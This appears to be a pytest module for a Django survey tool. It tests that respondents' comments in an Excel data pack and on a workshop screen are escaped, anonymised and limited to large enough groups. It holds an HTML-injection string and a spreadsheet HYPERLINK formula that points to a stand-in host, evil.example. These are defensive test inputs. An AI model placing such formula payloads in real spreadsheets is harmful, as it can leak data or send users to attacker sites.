"""Comments outside the report (issue #12): the Excel data pack HR and consultants download, and the
workshop facilitator's screen. Same rule as the report (reports/comments.py): released responses
only, groups of at least the comment threshold, never with role or department; escaped."""

import io

import openpyxl
import pytest
from django.urls import reverse

from assessment.analysis import campaign_results
from followthrough.datapack import data_pack_xlsx
from workshop import services as workshop_services
from workshop.models import Phase

from .conftest import _user
from .test_comments import campaign_1_1, submitted  # noqa: F401 (fixture)
from .test_workshop import move_to

HOSTILE = "<b>稟議{n}</b> & more"
FORMULA = '=HYPERLINK("http://evil.example/?{n}","click")'


@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def people(campaign_1_1):
    organisation = campaign_1_1.organisation
    from .factories import OrganisationFactory

    return {
        "owner": _user("owner", organisation, "hr"),
        "member": _user("member", organisation, "executive"),
        "outsider": _user("outsider", OrganisationFactory(), "hr"),
    }


def _book(data):
    return openpyxl.load_workbook(io.BytesIO(data))


def _texts(book):
    return [str(cell.value) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value]


# --- the data pack ---------------------------------------------------------------------------


def test_the_data_pack_has_the_released_comments_without_role_or_department(campaign_1_1):
    submitted(campaign_1_1, 10, comment=HOSTILE, obstacle=FORMULA)
    campaign_results(campaign=campaign_1_1)  # a release of the 10
    submitted(campaign_1_1, 1, comment="zzlatezz {n}")  # submitted after it, in no release yet
    book = _book(data_pack_xlsx(campaign=campaign_1_1, lang="en"))
    sheet = book["Comments"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Topic", "Comment")  # no role, no department
    prompt = campaign_1_1.framework.comments["obstacle"]["en"]
    budget = campaign_1_1.framework.dimensions.get(key="budget").name_en
    assert sorted(rows[1:]) == sorted(
        [(prompt, FORMULA.format(n=n)) for n in range(10)] + [(budget, HOSTILE.format(n=n)) for n in range(10)]
    )
    assert all(cell.data_type == "s" for row in sheet.iter_rows() for cell in row)  # text, never a formula
    assert not any("zzlatezz" in text for text in _texts(book))
    japanese = _book(data_pack_xlsx(campaign=campaign_1_1, lang="ja"))
    assert japanese["コメント"]["A1"].value == "テーマ"
    assert japanese["コメント"]["A2"].value in (
        campaign_1_1.framework.comments["obstacle"]["ja"],
        campaign_1_1.framework.dimensions.get(key="budget").name_ja,
    )


def test_below_the_comment_threshold_the_data_pack_says_so_and_holds_no_comment(campaign_1_1):
    submitted(campaign_1_1, 9, comment="secret {n}")
    book = _book(data_pack_xlsx(campaign=campaign_1_1, lang="en"))
    assert list(book["Comments"].iter_rows(values_only=True))[1] == (
        "–",
        "Comments are shown only for groups of at least 10 respondents; this group is smaller.",
    )
    assert not any("secret" in text for text in _texts(book))


def test_1_0_data_packs_have_no_comments_sheet(campaign):
    from .test_analysis import add_responses

    add_responses(campaign, 5, agreement=3)
    assert "Comments" not in _book(data_pack_xlsx(campaign=campaign, lang="en")).sheetnames


@pytest.mark.parametrize(("who", "status"), [("owner", 200), ("member", 200), ("outsider", 404)])
def test_data_pack_download_follows_the_report_rules(client, campaign_1_1, people, who, status):
    submitted(campaign_1_1, 10, comment=HOSTILE)
    client.force_login(people[who])
    reply = client.get(reverse("followthrough:data_pack", args=[campaign_1_1.pk]), {"lang": "en"})
    assert reply.status_code == status
    if status == 200:
        assert HOSTILE.format(n=3) in _texts(_book(reply.content))


# --- the workshop facilitator's screen -------------------------------------------------------


def _facilitate(client, campaign, **headers):
    return client.get(reverse("workshop:facilitate", args=[campaign.pk]), **headers)


def test_the_facilitator_sees_escaped_comments_from_the_discussion_on(client, campaign_1_1, people):
    submitted(campaign_1_1, 10, comment=HOSTILE)
    session = workshop_services.workshop_start(campaign=campaign_1_1, user=people["owner"], expected=30)
    client.force_login(people["owner"])
    html = _facilitate(client, campaign_1_1).content.decode()
    assert 'id="workshop-comments"' not in html  # first vote: not yet
    move_to(session, Phase.DISCUSSION)
    html = _facilitate(client, campaign_1_1).content.decode()
    section = html[html.index('id="workshop-comments"') : html.index("</details>")]
    assert "What respondents wrote (10)" in section
    assert "&lt;b&gt;稟議3&lt;/b&gt; &amp; more" in section and "<b>稟議" not in html
    assert "R&amp;D" not in section and "Business" not in section  # never with department or role
    html = _facilitate(client, campaign_1_1, HTTP_ACCEPT_LANGUAGE="ja").content.decode()
    assert "回答者のコメント (10)" in html
    move_to(session, Phase.CLOSED)
    assert "&lt;b&gt;稟議3&lt;/b&gt;" in _facilitate(client, campaign_1_1).content.decode()


def test_the_facilitator_sees_no_comment_below_the_comment_threshold(client, campaign_1_1, people):
    submitted(campaign_1_1, 9, comment="secret {n}")
    session = workshop_services.workshop_start(campaign=campaign_1_1, user=people["owner"], expected=30)
    move_to(session, Phase.DISCUSSION)
    client.force_login(people["owner"])
    html = _facilitate(client, campaign_1_1).content.decode()
    assert "Comments are shown only for groups of at least 10 respondents" in html and "secret" not in html


@pytest.mark.parametrize("who", ["member", "outsider"])
def test_others_never_reach_the_facilitator_screen(client, campaign_1_1, people, who):
    submitted(campaign_1_1, 10, comment=HOSTILE)
    session = workshop_services.workshop_start(campaign=campaign_1_1, user=people["owner"], expected=30)
    move_to(session, Phase.DISCUSSION)
    client.force_login(people[who])
    assert _facilitate(client, campaign_1_1).status_code == 404
